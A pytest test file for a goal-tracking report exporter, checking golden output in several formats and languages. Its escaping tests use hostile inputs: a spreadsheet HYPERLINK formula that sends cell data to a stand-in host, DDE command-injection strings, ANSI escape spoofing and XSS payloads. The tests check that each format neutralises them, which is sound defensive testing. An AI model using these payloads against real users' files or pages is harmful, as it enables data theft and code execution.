"""Report formats: golden files for every format in both languages, and their properties.

The golden files in tests/golden/ are the fixture plan (tests/data/cli-plan) evaluated at
2010-06-30 with the default rule set.  When a change to the rules, facts or formats changes
them on purpose, regenerate and review the diff::

    GOALCHECK_REGEN_GOLDEN=1 pytest tests/test_export.py
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import goalcheck
import goalcheck.output
import goalcheck.report
from goalcheck import strategies as gs
from goalcheck.engine import evaluate
from goalcheck.errors import GoalcheckError
from goalcheck.model import Plan
from goalcheck.output import FORMATS, TEXT_FORMATS, explain, format_for_path, render, render_bytes
from goalcheck.report import Report

HERE = Path(__file__).parent
GOLDEN = HERE / "golden"
AS_OF = dt.date(2010, 6, 30)
REGEN = os.environ.get("GOALCHECK_REGEN_GOLDEN") == "1"
SUFFIX = {"table": "txt", "json": "json", "csv": "csv", "markdown": "md", "html": "html"}

pytestmark = pytest.mark.skipif(
    not hasattr(goalcheck, "load_plan"), reason="goalcheck.load_plan is not available yet"
)


@pytest.fixture(scope="module")
def plan() -> Plan:
    loaded: Plan = goalcheck.load_plan(HERE / "data" / "cli-plan")  # type: ignore[attr-defined]
    return loaded


@pytest.fixture(scope="module")
def report(plan: Plan) -> Report:
    return evaluate(plan, AS_OF)


def check_golden(name: str, text: str) -> None:
    # the footer names goalcheck's version: keep the golden files independent of it
    text = text.replace(f"goalcheck {goalcheck.__version__} ", "goalcheck {version} ")
    path = GOLDEN / name
    if REGEN:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8", newline="")
        return
    assert path.exists(), f"{path} missing: run with GOALCHECK_REGEN_GOLDEN=1"
    assert text == path.read_text(encoding="utf-8"), f"{name} differs from its golden file"


@pytest.mark.parametrize("lang", ["en", "da"])
@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_golden(plan: Plan, report: Report, fmt: str, lang: str) -> None:
    check_golden(f"cli-plan.{lang}.{SUFFIX[fmt]}", render(report, fmt, lang, plan=plan))


@pytest.mark.parametrize("lang", ["en", "da"])
def test_golden_explain(plan: Plan, lang: str) -> None:
    check_golden(f"cli-plan.explain-1.1.{lang}.txt", explain(plan, "1.1", AS_OF, lang=lang))


def test_render_is_deterministic(plan: Plan) -> None:
    first = [render_bytes(evaluate(plan, AS_OF), f, "da", plan=plan) for f in FORMATS]
    second = [render_bytes(evaluate(plan, AS_OF), f, "da", plan=plan) for f in FORMATS]
    assert first == second


# -- JSON -------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "da"])
def test_json_is_report_to_dict(report: Report, lang: str) -> None:
    text = render(report, "json", lang)
    assert json.loads(text) == report.to_dict(lang)
    assert list(json.loads(text)) == [
        "schema_version",
        "as_of",
        "rules",
        "results",
        "rollups",
        "summary",
    ]
    assert "Beskæftigelse" in text  # ensure_ascii=False


def test_json_explanations_follow_the_language(report: Report) -> None:
    en = json.loads(render(report, "json", "en"))["results"]
    da = json.loads(render(report, "json", "da"))["results"]
    assert [r["status"] for r in en] == [r["status"] for r in da]
    assert en[1]["explanation"] != da[1]["explanation"]


# -- table ------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [60, 80, 120])
def test_table_fits_its_width(plan: Plan, report: Report, width: int) -> None:
    for lang in ("en", "da"):
        text = render(report, "table", lang, plan=plan, width=width)
        assert max(len(line) for line in text.splitlines()) <= width


def test_table_colour_is_only_on_request(plan: Plan, report: Report) -> None:
    plain = render(report, "table", plan=plan)
    coloured = render(report, "table", plan=plan, color=True)
    assert "\x1b[" not in plain
    assert "\x1b[31m" in coloured
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain


def test_table_cuts_long_titles_with_an_ellipsis(plan: Plan, report: Report) -> None:
    text = render(report, "table", plan=plan)
    assert "…" in text
    rows = [line for line in text.splitlines() if not line.lstrip().startswith(("■", "▪"))]
    assert "deltagere i 2010" not in "\n".join(rows)  # the 1.1 title is longer than two lines


# -- CSV --------------------------------------------------------------------------------------


def test_csv_one_row_per_target(plan: Plan, report: Report) -> None:
    from goalcheck._export.csv import COLUMNS

    rows = list(csv.DictReader(io.StringIO(render(report, "csv", "da", plan=plan))))
    assert [row["id"] for row in rows] == [r.target_id for r in report]
    assert tuple(rows[0]) == COLUMNS
    by_id = {row["id"]: row for row in rows}
    assert by_id["1.1"]["value"] == "220"  # running total of a cumulative target
    assert by_id["1.1"]["status"] == "at_risk"
    assert by_id["1.1"]["label"] == "i risiko"
    assert by_id["3.1"]["target_high"] == "70"


# -- Markdown ---------------------------------------------------------------------------------


def test_markdown_sections_per_area_and_initiative(plan: Plan, report: Report) -> None:
    text = render(report, "markdown", plan=plan)
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings[0] == "# Testplan for rapporter – København 2010"
    assert any(h.startswith("## A Beskæftigelse") for h in headings)
    assert any(h.startswith("### I3 Ungdomsuddannelse til alle") for h in headings)


# -- HTML -------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    VOID = frozenset({"meta", "br", "img", "input", "link", "hr"})

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.errors: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()


def parse_html(text: str) -> _Tags:
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser


def test_html_is_self_contained_and_well_nested(plan: Plan, report: Report) -> None:
    text = render(report, "html", "da", plan=plan)
    tags = parse_html(text)
    assert tags.errors == []
    assert tags.stack == []
    names = {tag for tag, _ in tags.seen}
    assert not names & {"link", "img", "iframe", "object"}
    assert text.count("<script>") == 1  # the overview's sorting, inline
    for _, attrs in tags.seen:
        assert "src" not in attrs
        assert not str(attrs.get("href") or "").startswith("http")
    urls = re.findall(r"https?://[^\s\"'<>]*", text)
    assert urls == ["http://www.w3.org/2000/svg"] * text.count("<svg")  # a namespace, not fetched
    assert "@media print" in text


def test_html_has_summary_sections_badges_bars_and_charts(plan: Plan, report: Report) -> None:
    tags = parse_html(render(report, "html", "en", plan=plan))
    classes = [attrs.get("class") or "" for _, attrs in tags.seen]
    assert sum(c.startswith("target ") for c in classes) == len(report)
    assert classes.count("area") == 2
    assert classes.count("initiative") == 3
    assert sum("badge" in c.split() for c in classes) >= len(report)
    assert classes.count("bar") == 3  # the targets with a progress fact: 1.1, 1.2, 2.1
    charts = [a for t, a in tags.seen if t == "svg" and a.get("class") == "chart"]
    # targets with measurements (1.1, 1.2, 2.1, 3.1, 3.3) get a chart
    assert len(charts) == 5
    assert classes.count("forecast") >= 1  # 1.1's forecast, a distinct marker
    assert classes.count("trend") >= 1
    assert classes.count("deadline") == 5
    assert classes.count("goal") >= 4


# -- API --------------------------------------------------------------------------------------


def test_unknown_format_and_language(report: Report) -> None:
    with pytest.raises(GoalcheckError, match="did you mean 'html'"):
        render(report, "htm")
    with pytest.raises(GoalcheckError, match="'en' or 'da'"):
        render(report, "table", "de")


def test_format_for_path() -> None:
    assert format_for_path("out/Report.HTML") == "html"
    assert format_for_path("r.md") == "markdown"
    assert format_for_path("r.json") == "json"
    assert format_for_path("r.pdf") is None


def test_render_without_the_plan(report: Report) -> None:
    for fmt in FORMATS:
        assert render_bytes(report, fmt, "da")  # no charts, but every format works


@settings(max_examples=20)  # whole plans are large; 20 keep the suite fast
@given(gs.plans(), st.sampled_from(["en", "da"]))
def test_any_plan_renders_in_every_format(plan: Plan, lang: str) -> None:
    report = evaluate(plan, dt.date(2015, 6, 30))
    table = render(report, "table", lang, plan=plan)
    assert max(len(line) for line in table.splitlines()) <= 80
    rows = list(csv.DictReader(io.StringIO(render(report, "csv", lang, plan=plan))))
    assert len(rows) == len(report)
    assert json.loads(render(report, "json", lang))["schema_version"] == 1
    tags = parse_html(render(report, "html", lang, plan=plan))
    assert tags.errors == []
    assert render(report, "markdown", lang, plan=plan).startswith("# ")


# -- a real browser ---------------------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_html_renders_in_a_headless_browser(plan: Plan, report: Report, tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    page.write_text(render(report, "html", "da", plan=plan), encoding="utf-8")
    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(
            [
                str(CHROMIUM),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                f"--user-data-dir={profile}",
                "--dump-dom",
                page.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    assert done.returncode == 0, done.stderr[-2000:]
    dom = done.stdout
    assert "<svg" in dom
    assert dom.count('class="target ') == len(report)
    assert "Overblik" in dom


# -- options and errors -----------------------------------------------------------------------


def test_bad_options_are_option_errors(report: Report) -> None:
    from goalcheck.errors import OptionError

    with pytest.raises(OptionError, match="did you mean 'html'"):
        render(report, "htm")
    with pytest.raises(OptionError, match="'en' or 'da'"):
        render(report, "table", "de")
    with pytest.raises(OptionError, match="'en' or 'da'"):
        report.records("fr")
    with pytest.raises(OptionError, match="did you mean 'at_risk'"):
        report.filter("at_rsk")
    with pytest.raises(OptionError, match="binary"):
        render(report, "xlsx")
    with pytest.raises(OptionError, match="decimal"):
        render(report, "csv", decimal=";")
    with pytest.raises(OptionError, match="differ"):
        render(report, "csv", decimal=",", delimiter=",")


def test_explain_evaluates_only_its_target(plan: Plan, monkeypatch: pytest.MonkeyPatch) -> None:
    import goalcheck.engine

    def whole_plan(*args: object, **kw: object) -> None:
        raise AssertionError("explain evaluated the whole plan")

    monkeypatch.setattr(goalcheck.engine, "evaluate", whole_plan)
    assert "1.1" in explain(plan, "1.1", AS_OF)


def test_the_view_computes_only_the_facts_it_shows(
    plan: Plan, report: Report, monkeypatch: pytest.MonkeyPatch
) -> None:
    import goalcheck.facts
    from goalcheck._export._view import SHOWN_FACTS, build_view

    asked: list[frozenset[str]] = []
    real = goalcheck.facts.compute_facts

    def spy(*args: object, names: object = None, **kw: object) -> dict[str, object]:
        assert names is not None, "every fact recomputed"
        asked.append(frozenset(names))  # type: ignore[arg-type]
        return real(*args, names=names, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(goalcheck.facts, "compute_facts", spy)
    build_view(report, "en", plan)
    assert asked
    assert all(names <= SHOWN_FACTS for names in asked)


# -- change since an earlier report -----------------------------------------------------------


@pytest.fixture(scope="module")
def compared(plan: Plan, report: Report) -> Report:
    return goalcheck.output.compare(report, evaluate(plan, dt.date(2010, 3, 31)))


def test_compare_marks_each_target(plan: Plan, report: Report, compared: Report) -> None:
    earlier = evaluate(plan, dt.date(2010, 3, 31))
    assert compared.comparison is not None
    for result in compared:
        change = compared.change(result.target_id)
        assert change is not None
        before = earlier[result.target_id].status
        assert change.earlier_status == before
        sev = {s.id: s.severity for s in report.rules.statuses}
        expected = (
            "unchanged"
            if before == result.status
            else "worsened"
            if sev[result.status] > sev[before]
            else "improved"
        )
        assert change.change == expected
    assert report.comparison is None  # compare() returns a new report


def test_compare_with_a_json_report_file(
    plan: Plan, report: Report, compared: Report, tmp_path: Path
) -> None:
    earlier = tmp_path / "last.json"
    earlier.write_text(render(evaluate(plan, dt.date(2010, 3, 31)), "json"), encoding="utf-8")
    from_file = goalcheck.output.compare(report, earlier)
    assert from_file.to_dict() == compared.to_dict()
    via_cli_helper = goalcheck.output.compare_to(report, str(earlier), plan)
    assert via_cli_helper.to_dict() == compared.to_dict()
    by_date = goalcheck.output.compare_to(report, "2010-03-31", plan)
    assert by_date.to_dict() == compared.to_dict()


def test_compare_refuses_what_is_not_a_report(report: Report, tmp_path: Path) -> None:
    from goalcheck.errors import InputError, OptionError

    bad = tmp_path / "x.json"
    bad.write_text('{"schema_version": 1, "results": [{"id": 3}]}', encoding="utf-8")
    with pytest.raises(InputError, match=r"x\.json:results\[0\]"):
        goalcheck.output.compare(report, bad)
    bad.write_text("{", encoding="utf-8")
    with pytest.raises(InputError, match="not a JSON report"):
        goalcheck.output.compare(report, bad)
    with pytest.raises(OptionError, match="no such report file"):
        goalcheck.output.compare_to(report, str(tmp_path / "missing.json"))


def test_new_and_removed_targets(report: Report) -> None:
    earlier = report.to_dict()
    results = earlier["results"]
    assert isinstance(results, list)
    earlier["results"] = [*results[1:], {"id": "gone", "status": "met"}]
    out = goalcheck.output.compare(report, earlier)
    assert out.comparison is not None
    assert out.change(report.results[0].target_id).change == "new"  # type: ignore[union-attr]
    assert out.comparison.removed == ("gone",)
    assert out.to_dict()["compared_to"]["removed"] == ["gone"]  # type: ignore[index]


def test_compared_json_is_additive(report: Report, compared: Report) -> None:
    plain, data = report.to_dict(), compared.to_dict()
    assert list(data)[: len(plain)] == list(plain)
    assert set(data) - set(plain) == {"compared_to", "changes"}
    assert data["compared_to"]["as_of"] == "2010-03-31"  # type: ignore[index]
    for before, after in zip(plain["results"], data["results"], strict=True):  # type: ignore[call-overload]
        assert {k: after[k] for k in before} == before
        assert set(after) - set(before) == {"earlier_status", "change"}
    counts = data["changes"]
    assert isinstance(counts, dict)
    assert sum(counts.values()) == len(report)


@pytest.mark.parametrize("lang", ["en", "da"])
def test_the_change_shows_in_every_format(plan: Plan, compared: Report, lang: str) -> None:
    word = {"en": "worsened", "da": "forværret"}[lang]
    line = re.compile(r"(Since|Siden) 2010-03-31: \d+ (targets?|mål) " + word)
    table = render(compared, "table", lang, plan=plan)
    assert line.search(table)
    assert label_of("earlier", lang) in table
    md = render(compared, "markdown", lang, plan=plan)
    assert line.search(md)
    html = render(compared, "html", lang, plan=plan)
    assert line.search(html)
    assert 'class="change change-' in html
    rows = list(csv.DictReader(io.StringIO(render(compared, "csv", lang, plan=plan))))
    assert {"earlier_status", "change"} <= set(rows[0])
    assert {row["change"] for row in rows} <= set(goalcheck.report.CHANGES)
    data = json.loads(render(compared, "json", lang))
    assert all("change" in r for r in data["results"])


def label_of(key: str, lang: str) -> str:
    from goalcheck._export._labels import label

    return label(key, lang)


# -- escaping, one policy per format (issue 18 F5-F7) -----------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB",
    "first\rsecond",
    "'=already quoted",
    "Jobs \x1b[1A\x1b[2K\x1b[32mALL TARGETS MET\x1b[0m",
    "a\\|b <script>alert(2)</script> `code` *em* [link](x)",
    "-10",
]


@pytest.fixture(scope="module")
def hostile() -> tuple[Plan, Report]:
    from goalcheck.model import Measurement, Target

    targets = [
        Target(
            id=f"T{i}",
            title=title,
            direction="at_least",
            target=10,
            deadline=dt.date(2010, 12, 31),
            measurements=[Measurement(dt.date(2010, 3, 31), -10.0)],
        )
        for i, title in enumerate(HOSTILE)
    ]
    plan = Plan(id="p", title="<img src=x onerror=alert(1)>", targets=targets)
    return plan, evaluate(plan, AS_OF)


@pytest.mark.parametrize("options", [{}, {"decimal": ",", "delimiter": ";"}])
def test_csv_neutralises_formulas_and_reads_back(
    hostile: tuple[Plan, Report], options: dict[str, str]
) -> None:
    from goalcheck._export.csv import restore_cell

    plan, report = hostile
    text = render(report, "csv", plan=plan, **options)
    rows = list(
        csv.DictReader(io.StringIO(text, newline=""), delimiter=options.get("delimiter", ","))
    )
    assert len(rows) == len(HOSTILE)  # a bare CR splits no row
    for row, title in zip(rows, HOSTILE, strict=True):
        cell = row["title"]
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and cell != "-10"), cell
        assert restore_cell(cell) == title.replace("\r", "\n")
        assert row["value"] in ("-10", "-10,0", "-10.0") or row["value"].startswith("-10")
        assert not row["value"].startswith("'")  # a number stays a number


def test_csv_for_danish_excel(plan: Plan, report: Report) -> None:
    text = render(report, "csv", "da", plan=plan, decimal=",", delimiter=";", bom=True)
    assert text.startswith("\ufeffid;title;")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    by_id = {row["id"]: row for row in rows}
    assert by_id["1.1"]["progress"] == "0,44"
    assert render_bytes(report, "csv", "da", plan=plan, bom=True).startswith(b"\xef\xbb\xbf")


def test_terminal_output_shows_control_characters(hostile: tuple[Plan, Report]) -> None:
    plan, report = hostile
    for width in (80, 140):
        table = render(report, "table", plan=plan, width=width)
        assert "\x1b" not in table
        assert "\r" not in table
        assert "\\x1b[1A" in table
    text = explain(plan, "T7", AS_OF)
    assert "\x1b" not in text
    assert "\\x1b[2K" in text


def test_markdown_escapes_html_and_table_syntax(hostile: tuple[Plan, Report]) -> None:
    plan, report = hostile
    md = render(report, "markdown", plan=plan)
    assert "<script>" not in md
    assert "<img" not in md
    assert "&lt;script&gt;" in md
    for line in md.splitlines():
        if line.startswith("| T8 "):
            cells = re.split(r"(?<!\\)\|", line)
            assert len(cells) == 8, line  # 6 columns: no cell split by the title's pipe
    from goalcheck._export.markdown import escape_markdown

    assert escape_markdown("a\\|b") == "a\\\\\\|b"


def test_html_escapes_everything(hostile: tuple[Plan, Report]) -> None:
    plan, report = hostile
    html = render(report, "html", plan=plan)
    assert "<script>alert" not in html
    assert "<img src=x" not in html


# -- HTML -------------------------------------------------------------------------------------


def test_html_overview_footer_and_sorting(plan: Plan, report: Report) -> None:
    html = render(report, "html", "en", plan=plan)
    overview = html.index('<section class="overview">')
    assert overview < html.index('<article class="target')
    assert html.count('<tr class="row">') == len(report)
    assert html.count('<svg class="spark"') >= 3
    assert html.count('data-type="num"') >= 3
    footer = re.search(r"<footer>(.*?)</footer>", html)
    assert footer is not None
    assert goalcheck.__version__ in footer.group(1)
    assert "default 1.0" in footer.group(1)
    assert "2010-06-30" in footer.group(1)
    assert "@media (max-width: 640px)" in html
    assert "@media print" in html


def test_chart_axis_includes_zero_or_the_baseline(plan: Plan, report: Report) -> None:
    from goalcheck._export._view import build_view
    from goalcheck._export.chart import _scale, _series

    view = build_view(report, "en", plan)
    for row in view.rows:
        series = _series(row, view.as_of)
        if series is None or not series.actuals:
            continue
        s = _scale(series)
        assert s is not None
        anchor = series.baseline[1] if series.baseline is not None else 0.0
        assert s.y0 <= anchor <= s.y1, (row.id, s, anchor)


@pytest.mark.parametrize("value", [1e17, 2.0**53, 0.0, -5.0, 1e-300, 1e308])
def test_a_flat_chart_never_divides_by_zero(value: float) -> None:
    """F9: every plotted value the same number, however large."""
    from goalcheck.model import Measurement, Target

    target = Target(
        id="T",
        direction="at_least",
        target=value,
        deadline=dt.date(2010, 12, 31),
        measurements=[Measurement(dt.date(2009, 6, 30), value)],
    )
    plan = Plan(id="p", targets=[target])
    html = render(evaluate(plan, dt.date(2009, 9, 30)), "html", plan=plan)
    assert "nan" not in html.lower().replace("nans", "")


# -- grouping is linear (F10) -----------------------------------------------------------------


def _many_initiatives(n: int) -> tuple[Plan, Report]:
    from goalcheck.model import Area, Initiative, Target

    areas = [Area(f"A{i}", f"Area {i}") for i in range(n)]
    initiatives = [
        Initiative(
            f"I{i}",
            f"Initiative {i}",
            area=f"A{i}",
            targets=[Target(id=f"T{i}", direction="at_least", target=10)],
        )
        for i in range(n)
    ]
    plan = Plan(id="p", areas=areas, initiatives=initiatives)
    return plan, evaluate(plan, AS_OF)


def test_grouping_is_linear() -> None:
    """10x the initiatives cost at most ~10x the lines run in _view (it was quadratic)."""
    import sys

    from goalcheck._export import _view

    def lines_run(n: int) -> int:
        plan, report = _many_initiatives(n)
        count = 0

        def tracer(frame: Any, event: str, arg: object) -> Any:
            nonlocal count
            if frame.f_code.co_filename != _view.__file__:
                return None
            if event == "line":
                count += 1
            return tracer

        sys.settrace(tracer)
        try:
            view = _view.build_view(report, "en", plan)
        finally:
            sys.settrace(None)
        assert len(view.groups) == n
        return count

    small, large = lines_run(100), lines_run(1_000)
    assert small > 0
    assert large <= 11 * small, (small, large)


# -- xlsx -------------------------------------------------------------------------------------


def test_xlsx_one_row_per_target_coloured_status_and_a_summary(
    hostile: tuple[Plan, Report], compared: Report, plan: Plan
) -> None:
    calamine = pytest.importorskip("python_calamine")
    data = render_bytes(compared, "xlsx", "da", plan=plan)
    assert data[:2] == b"PK"
    book = calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["targets", "summary"]
    rows = book.get_sheet_by_name("targets").to_python()
    head = rows[0]
    assert head[:7] == ["id", "title", "initiative", "area", "status", "label", "rule"]
    assert "change" in head
    assert len(rows) == 1 + len(compared)
    by_id = {row[0]: dict(zip(head, row, strict=True)) for row in rows[1:]}
    assert by_id["1.1"]["value"] == 220.0  # a number, not text
    assert by_id["1.1"]["measured_on"] == dt.date(2010, 6, 30)  # a date
    assert by_id["1.1"]["label"] == "i risiko"
    summary = book.get_sheet_by_name("summary").to_python()
    # at risk: 1.1 (forecast-miss) and 2.2 (milestone-unreported)
    assert any(row[:2] == ["i risiko", 2.0] for row in summary)
    # status cells carry a fill colour per status
    import zipfile

    styles = zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    assert "FFFFEBE9" in styles  # the at-risk background
    # formula-like titles are text cells, never formulas
    hplan, hreport = hostile
    book = calamine.CalamineWorkbook.from_filelike(
        io.BytesIO(render_bytes(hreport, "xlsx", plan=hplan))
    )
    titles = [row[1] for row in book.get_sheet_by_name("targets").to_python()[1:]]
    assert titles == HOSTILE
    sheet = zipfile.ZipFile(io.BytesIO(render_bytes(hreport, "xlsx", plan=hplan)))
    assert "<f>" not in sheet.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_without_the_extra(report: Report, monkeypatch: pytest.MonkeyPatch) -> None:
    import builtins

    from goalcheck.errors import MissingDependencyError

    real = builtins.__import__

    def no_xlsxwriter(name: str, *args: Any, **kw: Any) -> Any:
        if name == "xlsxwriter":
            raise ImportError(name)
        return real(name, *args, **kw)

    monkeypatch.setattr(builtins, "__import__", no_xlsxwriter)
    with pytest.raises(MissingDependencyError, match=r"goalcheck\[xlsx\]"):
        render_bytes(report, "xlsx")


def test_a_rule_sets_own_rollup_score_is_shown() -> None:
    from types import SimpleNamespace

    from goalcheck._export._view import _rollup_detail

    assert _rollup_detail(SimpleNamespace(method="share_met", score=0.6), "da") == "60 % nået"
    assert _rollup_detail(SimpleNamespace(method="mean_score", score=1.25), "en") == (
        "mean score 1.25"
    )
    assert _rollup_detail(SimpleNamespace(method="worst", score=None), "en") == ""
    assert _rollup_detail(None, "en") == ""


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "markdown", "html", "xlsx"])
def test_demo_compared_with_an_earlier_date_in_every_format(
    fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 19: --compare-to on the Q3 2009 example shows the changes in all formats."""
    from goalcheck.cli import main

    out = tmp_path / f"report.{SUFFIX.get(fmt, fmt)}"
    code = main(["demo", "--compare-to", "2009-06-30", "--format", fmt, "-o", str(out)])
    assert code == 0, capsys.readouterr().err
    if fmt == "xlsx":
        calamine = pytest.importorskip("python_calamine")
        book = calamine.CalamineWorkbook.from_path(str(out))
        head = book.get_sheet_by_name("targets").to_python()[0]
        assert "change" in head
        summary = book.get_sheet_by_name("summary").to_python()
        assert any("Since 2009-06-30" in str(cell) for row in summary for cell in row)
        return
    text = out.read_text(encoding="utf-8")
    if fmt == "json":
        data = json.loads(text)
        assert data["compared_to"]["as_of"] == "2009-06-30"
        assert data["changes"]["worsened"] + data["changes"]["improved"] > 0
        assert {r["change"] for r in data["results"]} <= set(goalcheck.report.CHANGES)
        return
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {"worsened", "improved"} <= {row["change"] for row in rows}
        return
    assert re.search(r"Since 2009-06-30: \d+ targets worsened, \d+ improved", text)


@pytest.mark.parametrize(
    ("facts", "shown"),
    [
        ({"target": 90.0}, "90"),  # no target object, no direction fact: no sign guessed
        ({"target": 90.0, "direction": -1}, "≤ 90"),
        ({"target": 90.0, "direction": 1}, "≥ 90"),
        ({"target": 60.0, "target_high": 70.0}, "60–70"),
    ],
)
def test_goal_text_guesses_no_direction(facts: dict[str, object], shown: str) -> None:
    """A columnar row has no Target: the goal's sign comes from the facts or is left out."""
    from goalcheck._export._view import Row
    from goalcheck._export.table import goal_text

    row = Row("t", "", None, None, "met", "Met", "good", None, "", facts)
    assert goal_text(row, "en") == shown
